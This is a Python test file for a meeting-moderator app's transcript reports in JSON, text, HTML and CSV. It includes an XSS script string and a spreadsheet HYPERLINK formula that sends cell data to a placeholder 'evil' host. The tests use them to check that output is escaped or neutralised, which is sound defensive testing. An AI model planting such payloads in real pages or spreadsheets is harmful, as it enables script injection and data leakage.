"""The transcript in the report: JSON per conference (finals only, in order, one name per
person), a section in text and HTML, a cell in CSV; hostile words stay words."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone
from pathlib import Path

from moderator.domain.events import parse_callback
from moderator.domain.transcripts import CONTENT, STARTED, parse_transcription_callback
from moderator.store.journal import Journal
from moderator.store.report import build_report, render
from moderator.store.report_html import html_report
from moderator.store.transcript_log import TranscriptLog
from tests.forms import call_sid, team_meeting, transcription_form

NOW = datetime(2026, 11, 25, 16, 0, tzinfo=timezone.utc)
HTML = "<script>alert('Bob')</script>"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'


def _journal(tmp_path: Path, forms: list[dict[str, str]]) -> Journal:
    journal = Journal.in_dir(tmp_path)
    journal.append_callbacks([(NOW, f, parse_callback(f, NOW)) for f in team_meeting()])
    store = TranscriptLog(journal.path)
    for form in forms:
        store.append(NOW, form, parse_transcription_callback(form, NOW))
    store.close()
    return journal


def _captions() -> list[dict[str, str]]:
    """Out of order, with partials, a duplicate and a caller never in the meeting."""
    return [
        transcription_form(CONTENT, 3, who="Alice", text="Good morning, team.", seconds=20),
        transcription_form(STARTED, 1, who="Alice", seconds=10),
        transcription_form(CONTENT, 2, who="Alice", text="Good mor", final=False, seconds=19),
        transcription_form(CONTENT, 2, who="Mary", text=HTML, seconds=25),
        transcription_form(CONTENT, 3, who="Charles", text=FORMULA, seconds=30),
        transcription_form(CONTENT, 3, who="Charles", text=FORMULA, seconds=30),
        transcription_form(CONTENT, 4, who="Charles", text="Still typing", final=False),
        transcription_form(CONTENT, 2, who="Stranger", text="Not in any meeting.", seconds=22),
    ]


def test_transcript_json_is_finals_in_order_with_one_name(tmp_path: Path) -> None:
    journal = _journal(tmp_path, _captions())
    (conference,) = json.loads(render(build_report(journal), "json"))["conferences"]
    assert conference["transcript"] == [
        {
            "at": "2026-11-25T15:00:20.000Z",
            "call_sid": call_sid("Alice"),
            "name": "Alice",
            "text": "Good morning, team.",
        },
        {
            "at": "2026-11-25T15:00:25.000Z",
            "call_sid": call_sid("Mary"),
            "name": "Mary",
            "text": HTML,
        },
        {
            "at": "2026-11-25T15:00:30.000Z",
            "call_sid": call_sid("Charles"),
            "name": "Charles",
            "text": FORMULA,
        },
    ]
    journal.close()


def test_text_html_and_csv_sections_keep_hostile_words_inert(tmp_path: Path) -> None:
    journal = _journal(tmp_path, _captions())
    report = build_report(journal)
    text = render(report, "text")
    assert "  Transcript:" in text and "Alice: Good morning, team." in text
    assert "Still typing" not in text and "Good mor\n" not in text
    page = html_report(journal)
    assert "<h2>Transcript</h2>" in page
    assert HTML not in page and "&lt;script&gt;alert(&#x27;Bob&#x27;)&lt;/script&gt;" in page
    assert "Not in any meeting" not in page
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(render(report, "csv")))}
    assert rows["Charles"]["transcript"] == "'" + FORMULA  # a spreadsheet shows it as text
    assert rows["Alice"]["transcript"] == "Good morning, team."
    assert rows["Bob"]["transcript"] == ""
    journal.close()


def test_no_captions_no_section(tmp_path: Path) -> None:
    journal = Journal.in_dir(tmp_path)
    journal.append_callbacks([(NOW, f, parse_callback(f, NOW)) for f in team_meeting()])
    report = build_report(journal)
    assert report["conferences"][0]["transcript"] == []
    assert "Transcript" not in render(report, "text")
    assert "<h2>Transcript</h2>" not in html_report(journal)
    journal.close()


def test_the_windows_html_report_has_the_transcript(tmp_path: Path) -> None:
    from moderator.store.report import rebuild_roster
    from moderator.store.report_html import JournalViews
    from tests.forms import CONFERENCE_SID

    journal = _journal(tmp_path, _captions())
    page = JournalViews(rebuild_roster(journal), journal).html(CONFERENCE_SID)
    assert "<h2>Transcript</h2>" in page and "Good morning, team." in page
    assert "<th>UTC</th>" in page and ">15:00:20<" in page
    journal.close()


def test_a_start_reads_only_the_open_meetings_callers(tmp_path: Path) -> None:
    journal = _journal(tmp_path, _captions())
    store = TranscriptLog(journal.path)
    everyone = store.transcript()
    alice_only = store.transcript([call_sid("Alice")])
    nobody = store.transcript([])
    store.close()
    assert {line.call_sid for line in everyone.finals()} > {call_sid("Alice")}
    assert [line.text for line in alice_only.finals()] == ["Good morning, team."]
    assert nobody.finals() == []
    journal.close()
